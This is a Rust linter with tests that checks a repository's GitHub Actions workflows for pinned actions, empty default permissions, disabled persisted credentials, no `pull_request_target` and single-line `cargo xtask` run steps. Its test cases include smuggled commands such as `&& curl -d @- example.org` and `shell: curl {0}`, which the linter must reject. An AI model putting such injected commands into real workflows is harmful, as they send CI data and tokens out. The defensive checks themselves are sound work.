//! The rules of this project's workflows: what keeps logic, tokens and strangers' code apart.
#![allow(clippy::disallowed_methods, reason = "reads files and the clock")]

use std::fs;
use std::time::Instant;

use anyhow::{Context, Result};
use camino::{Utf8Path, Utf8PathBuf};

use crate::ci::workflows::document::{Document, Node, Value};
use crate::ci::{Outcome, Row};
use crate::os::streams::print_stderr;

mod document;

/// Of all workflows together; longer ones have logic that belongs in xtask.
const MOST_LINES: usize = 200;

/// A path of keys, and the value at its end if that matters.
type Expected = (&'static [&'static str], Option<&'static str>);

/// The workflows that must exist, and what others rely on in them: users on the schedule, `check-upstream`
/// on the title and the input, SECURITY.md on the job that builds again.
const EXPECTED: [(&str, &[Expected]); 3] = [
    ("ci.yml", &[]),
    (
        "buildkit-weekly-build.yml",
        &[
            (&["run-name"], Some("BuildKit ${{ inputs.buildkit_ref || 'master' }}")),
            (&["on", "schedule", "cron"], Some("30 6 * * 0")),
            (&["on", "workflow_dispatch", "inputs", "buildkit_ref"], None),
            (&["jobs", "build", "steps", "run"], Some("cargo xtask doctor --for workflow --install=ephemeral")),
            (&["jobs", "build", "steps", "env", "XTASK_MACHINE_LIMIT"], None),
            (&["jobs", "rebuild", "steps", "run"], Some("cargo xtask build --again")),
            (&["jobs", "rebuild", "steps", "run"], Some("cargo xtask package --again")),
            (&["jobs", "publish", "needs"], Some("rebuild")),
        ],
    ),
    (
        "track-buildkit-releases.yml",
        &[(&["on", "schedule", "cron"], Some("0 9 * * *")), (&["on", "workflow_dispatch"], None)],
    ),
];

/// Checks the workflows at `paths`, relative to `root`.
pub fn check(root: &Utf8Path, paths: &[Utf8PathBuf]) -> Result<Row> {
    let started = Instant::now();
    let read = |path: &Utf8PathBuf| {
        let text = fs::read_to_string(root.join(path)).with_context(|| format!("cannot read {path}"))?;
        anyhow::Ok((path.file_name().unwrap_or_default().to_owned(), text))
    };
    let files = paths.iter().map(read).collect::<Result<Vec<_>>>()?;
    let faults = faults_of_all(&files);
    let outcome = if faults.is_empty() {
        Outcome::Passed(format!("{} files, {} of {MOST_LINES} lines", files.len(), lines_of(&files)))
    } else {
        faults.iter().for_each(print_stderr);
        Outcome::Failed(format!("{} faults, the first: {}", faults.len(), faults[0]))
    };
    Ok(Row::new("workflow rules", outcome, started))
}

fn lines_of(files: &[(String, String)]) -> usize {
    files.iter().map(|(_, text)| text.lines().count()).sum()
}

fn faults_of_all(files: &[(String, String)]) -> Vec<String> {
    let mut found: Vec<String> = files.iter().flat_map(|(name, text)| faults(name, text)).collect();
    let missing = EXPECTED.iter().filter(|(expected, _)| !files.iter().any(|(name, _)| name == expected));
    found.extend(missing.map(|(expected, _)| format!("{expected}: there is no such workflow")));
    if lines_of(files) > MOST_LINES {
        found.push(format!("the workflows have {} lines, more than {MOST_LINES}", lines_of(files)));
    }
    found
}

/// What is wrong with the workflow `text` of the file `name`, each as `name:line: what`.
fn faults(name: &str, text: &str) -> Vec<String> {
    let Document { root, faults: mut found } = Document::parse(text);
    if let Some(root) = root {
        found.extend(of_document(name, &root, text));
    }
    found.sort();
    found.into_iter().map(|(number, what)| format!("{name}:{number}: {what}")).collect()
}

fn of_document(name: &str, root: &Node, text: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    found.extend(of_top_level(name, root).into_iter().map(|what| (1, what)));
    let events = root.get("on").map_or_else(Vec::new, Node::names);
    let is_event = |node: &Node, name: &str| node.scalar() == Some(name);
    let targets = events.iter().filter(|event| is_event(event, "pull_request_target"));
    found.extend(targets.map(|event| (event.line, "runs strangers' changes with this repository's token".to_owned())));
    let has_strangers = events.iter().any(|event| is_event(event, "pull_request"));
    let lines: Vec<&str> = text.lines().collect();
    for mapping in root.mappings() {
        for (key, value) in mapping.entries() {
            let line = lines.get(value.line - 1).copied().unwrap_or_default();
            let what = of_entry(mapping, key.scalar().unwrap_or_default(), value.scalar(), line, has_strangers);
            found.extend(what.map(|what| (key.line, what.to_owned())));
        }
    }
    found.extend(root.get("jobs").map_or(&[][..], Node::entries).iter().flat_map(|(name, job)| of_job(name, job)));
    found
}

fn of_top_level(name: &str, root: &Node) -> Vec<String> {
    let expected = EXPECTED.iter().find(|(file, _)| *file == name).map_or(&[][..], |(_, expected)| expected);
    let missing = expected.iter().filter(|(path, value)| {
        !root.at(path).iter().any(|node| value.is_none_or(|value| node.scalar() == Some(value)))
    });
    let mut found: Vec<String> =
        missing.map(|(path, value)| format!("needs `{}: {}`", path.join("."), value.unwrap_or_default())).collect();
    if !root.get("permissions").is_some_and(|value| matches!(&value.value, Value::Map(entries) if entries.is_empty())) {
        found.push("needs `permissions: {}` at the top: each job names what it needs".to_owned());
    }
    if root.get("concurrency").is_none() {
        found.push("needs `concurrency:` at the top: two runs at once do the same thing twice".to_owned());
    }
    found
}

/// What is wrong with one entry of `mapping`, whose value is in `line`; `value` is `None` for a list or a mapping.
fn of_entry(mapping: &Node, key: &str, value: Option<&str>, line: &str, has_strangers: bool) -> Option<&'static str> {
    let credentials = || mapping.get("with")?.get("persist-credentials")?.scalar();
    let same_key = mapping.entries().iter().filter(|(other, _)| other.scalar() == Some(key));
    let rules = [
        (same_key.count() > 1, "the same key is there twice"),
        (
            key == "run" && !value.is_some_and(|value| is_task(value) && line.contains(value)),
            "`run:` is one line `cargo xtask …` of plain words: the logic is in xtask",
        ),
        (key == "shell", "a task needs no shell of its choice, which could be any program"),
        (
            key == "uses" && !value.is_some_and(|value| is_pinned(value, line)),
            "`uses:` is OWNER/NAME@ and a commit of 40 digits, then its version as `# v…`",
        ),
        (
            key == "uses"
                && value.is_some_and(|value| value.starts_with("actions/checkout@"))
                && credentials() != Some("false"),
            "a checkout needs `persist-credentials: false`, or later steps can push",
        ),
        (
            has_strangers && key == "runs-on" && value != Some("ubuntu-latest"),
            "strangers' changes run on GitHub's machines only",
        ),
    ];
    rules.into_iter().find_map(|(is_broken, what)| is_broken.then_some(what))
}

fn of_job(name: &Node, job: &Node) -> Vec<(usize, String)> {
    let missing = ["permissions", "timeout-minutes"].into_iter().filter(|needed| job.get(needed).is_none());
    let fault = |needed| (name.line, format!("the job {} needs `{needed}:`", name.scalar().unwrap_or_default()));
    missing.map(fault).collect()
}

/// No quotes, variables, operators or expressions: what a shell could read in more than one way belongs in xtask.
fn is_task(command: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " ./=_-".contains(c);
    command.starts_with("cargo xtask ") && command.chars().all(is_plain)
}

/// The comment is no part of the YAML document: it is read from the line.
fn is_pinned(action: &str, line: &str) -> bool {
    let commit = action.split_once('@').map_or("", |(_, commit)| commit);
    let is_commit = commit.len() == 40 && commit.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'));
    let comment = line.split_once(action).and_then(|(_, rest)| rest.trim_start().strip_prefix("# v"));
    is_commit && comment.is_some_and(|version| version.starts_with(|c: char| c.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "\
name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions: {} # none
concurrency:
  group: ci
jobs:
  ci:
    runs-on: ubuntu-latest
    timeout-minutes: 90
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: cargo xtask ci
        env:
          TOKEN: ${{ github.token }}
";

    #[test]
    fn a_workflow_that_follows_the_rules_has_no_fault() {
        assert_eq!(faults("ci.yml", GOOD), Vec::<String>::new());
        assert_eq!(faults("ci.yml", &(GOOD.to_owned() + "env:\n  A: b\n")), Vec::<String>::new());
    }

    /// Each rule: a change that breaks it, and how the fault then begins.
    #[test]
    fn a_broken_rule_is_found_by_name_and_line() {
        let run = "run: cargo xtask ci\n";
        for (from, to, said) in [
            ("permissions: {} # none", "permissions: read-all", "ci.yml:1: needs `permissions: {}`"),
            ("concurrency:\n  group: ci\n", "", "ci.yml:1: needs `concurrency:`"),
            ("    timeout-minutes: 90\n", "", "ci.yml:10: the job ci needs `timeout-minutes:`"),
            ("    permissions:\n      contents: read\n", "", "ci.yml:10: the job ci needs `permissions:`"),
            ("          persist-credentials: false\n", "          fetch-depth: 0\n", "ci.yml:16: a checkout needs"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", "ci.yml:16: `uses:`"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e", "ci.yml:16: `uses:`"),
            (" # v7.0.1", "", "ci.yml:16: `uses:`"),
            (run, "run: cargo xtask ci --only ${{ inputs.name }}\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci && curl -d @- example.org\n", "ci.yml:19: `run:`"),
            (run, "run: cargo test\n", "ci.yml:19: `run:`"),
            (run, "run : cargo test\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n        shell: curl {0}\n", "ci.yml:20: a task needs no shell"),
            (run, "run: cargo xtask\n          ci $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n          $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: |\n          cargo xtask ci\n", "ci.yml:19: write it in block style"),
            (run, "\"run\": cargo test\n", "ci.yml:19: write it in block style"),
            (run, "{ run: cargo test }\n", "ci.yml:19: write it in block style"),
            ("  push:\n    branches: [main]\n", "  pull_request_target:\n", "ci.yml:3: runs strangers' changes"),
            (
                "on:\n  push:\n    branches: [main]\n  pull_request:\n",
                "on: pull_request_target\n",
                "ci.yml:2: runs strangers'",
            ),
            ("runs-on: ubuntu-latest", "runs-on: self-hosted", "ci.yml:11: strangers' changes"),
            ("runs-on: ubuntu-latest", "runs-on: [self-hosted]", "ci.yml:11: strangers' changes"),
            ("  push:\n    branches: [main]\n", "  ? pull_request_target\n", "ci.yml:3: runs strangers' changes"),
            (run, "run: cargo xtask ci\n      - run: &x cargo test\n", "ci.yml:20: `run:`"),
            (run, "name: &x cargo xtask ci\n", "ci.yml:19: write it in block style"),
            (run, "run: cargo xtask ci\n        <<: *x\n", "ci.yml:20: "),
            (run, "run: cargo xtask ci\n      - uses: ./local\n", "ci.yml:20: `uses:`"),
            (run, "run: \"cargo xtask ci\n          --only x\"\n", "ci.yml:19: `run:`"),
            (run, "run: [cargo, xtask]\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n        run: cargo xtask ci\n", "ci.yml:20: the same key"),
            ("jobs:\n", "jobs: [\n", "ci.yml:11: is not YAML: "),
            ("jobs:\n", "---\njobs:\n", "ci.yml:1: holds 2 YAML documents"),
        ] {
            assert!(GOOD.contains(from), "{from}");
            let found = faults("ci.yml", &GOOD.replace(from, to));
            assert!(found.iter().any(|fault| fault.starts_with(said)), "{to}: {found:?}");
        }
    }

    /// One damaged character anywhere neither hides a step that runs another command nor makes the rules panic.
    #[test]
    fn no_damage_hides_another_command_or_panics() {
        arbtest::arbtest(|source| {
            let mut lines: Vec<String> = GOOD.lines().map(str::to_owned).collect();
            let (at, what): (usize, u8) = (source.int_in_range(0..=lines.len() - 1)?, source.arbitrary()?);
            let piece = ["{", "[", "'", "\"", "&a ", "*a", "? ", "- ", "|", "\t", "#", ": "][usize::from(what) % 12];
            let column = source.int_in_range(0..=lines[at].len())?;
            if lines[at].is_char_boundary(column) {
                lines[at].insert_str(column, piece);
            }
            lines.push("      - run: cargo test".to_owned());
            let found = faults("ci.yml", &lines.join("\n"));
            assert!(!found.is_empty(), "{lines:?}");
            Ok(())
        });
    }

    #[test]
    fn schedule_title_and_input_are_as_ordered() {
        let found = faults("buildkit-weekly-build.yml", GOOD);
        assert_eq!(found.len(), 8, "{found:?}");
        assert!(found.iter().any(|fault| fault.contains("30 6 * * 0")), "{found:?}");
        assert!(faults("track-buildkit-releases.yml", GOOD)[0].contains("0 9 * * *"));
    }

    /// What is attested was built twice, on two machines; what is missing on a machine is known before the build; and a
    /// slow board can have more time.
    #[test]
    fn the_workflow_that_builds_keeps_the_steps_that_others_rely_on() {
        let name = "buildkit-weekly-build.yml";
        let path = Utf8Path::new(env!("CARGO_MANIFEST_DIR")).join("../.github/workflows").join(name);
        let text = fs::read_to_string(path).expect("is read");
        assert_eq!(faults(name, &text), [""; 0]);
        for line in [
            "needs: rebuild",
            "run: cargo xtask build --again",
            "run: cargo xtask package --again",
            "XTASK_MACHINE_LIMIT:",
            "run: cargo xtask doctor --for workflow",
        ] {
            assert!(text.contains(line), "{line}");
            let found = faults(name, &text.replacen(line, "was: gone", 1));
            assert!(found.iter().any(|fault| fault.contains("needs `jobs.")), "{line}: {found:?}");
        }
    }

    #[test]
    fn missing_workflows_and_long_ones_are_faults() {
        let long = GOOD.to_owned() + &"\n".repeat(200);
        let found = faults_of_all(&[("ci.yml".to_owned(), long)]);
        assert_eq!(found[0], "buildkit-weekly-build.yml: there is no such workflow");
        assert_eq!(found[2], "the workflows have 221 lines, more than 200");
    }
}
